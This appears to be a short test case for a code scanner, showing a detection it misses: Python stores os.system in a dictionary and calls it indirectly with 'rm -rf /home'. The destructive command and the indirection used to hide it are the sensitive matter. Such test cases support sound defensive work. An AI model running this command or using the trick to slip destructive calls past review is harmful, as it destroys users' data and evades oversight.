# Missed: functions kept in a table
import os
table = {"a": os.system}
table["a"]("rm -rf /home")
